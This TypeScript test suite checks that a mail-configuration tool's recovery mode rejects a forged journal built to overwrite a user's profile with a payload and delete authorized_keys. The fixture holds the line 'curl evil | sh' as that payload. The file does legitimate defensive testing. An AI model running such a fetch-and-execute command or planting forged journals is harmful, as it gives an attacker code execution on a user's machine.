import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, suite, test } from "node:test";
import { run } from "../cli/run.ts";

const root = mkdtempSync(join(tmpdir(), "mailconf-forged-"));
after(() => rmSync(root, { recursive: true, force: true }));
const digest = (text: string) => createHash("sha256").update(text).digest("hex");

/** A repository that brings a journal along: whoever recovers it would have files of their own written or removed. */
suite("a journal that somebody made up", () => {
  for (const phase of ["preparing", "writing", "written", "undoing", "done"])
    test(phase, () => {
      const home = join(root, phase);
      const repository = join(home, "repository");
      const victim = join(home, "profile");
      const bystander = join(home, "authorized_keys");
      mkdirSync(join(repository, ".mailconf/apply"), { recursive: true, mode: 0o700 });
      mkdirSync(join(repository, ".mailconf/backup-1"));
      writeFileSync(victim, "mine\n");
      writeFileSync(bystander, "mine\n");
      writeFileSync(join(repository, "main.cf"), "");
      const payload = join(repository, "payload");
      writeFileSync(payload, "curl evil | sh\n");
      const file = {
        ...{ name: "profile", target: victim, fresh: bystander, old: payload },
        ...{ mode: 0o644, owner: process.getuid?.() ?? 0, group: process.getgid?.() ?? 0 },
        ...{ before: digest("curl evil | sh\n"), after: digest("mine\n") },
      };
      const journal = {
        ...{ version: 1, process: "1 1", place: 0, started: "20260101-000000", server: "postfix" },
        ...{ backup: join(repository, ".mailconf/backup-1"), activation: "none", files: [file] },
        observed: { running: [], asked: [], greeted: [], failures: [] },
      };
      const path = join(repository, `.mailconf/apply/journal.${phase}`);
      writeFileSync(path, JSON.stringify(journal));
      chmodSync(path, 0o600);
      for (const words of [["--recover", "--dry-run"], ["--recover"]]) {
        const { stdout, stderr, status } = run("apply", repository, ...words);
        assert.equal(status, 2, stdout + stderr);
        assert.match(stdout + stderr, /was not written here/);
        assert.ok(!stdout.includes("mailconf apply --recover"), "an editor would offer to recover it");
      }
      assert.equal(readFileSync(victim, "utf8"), "mine\n");
      assert.ok(existsSync(bystander) && existsSync(payload));
    });
});
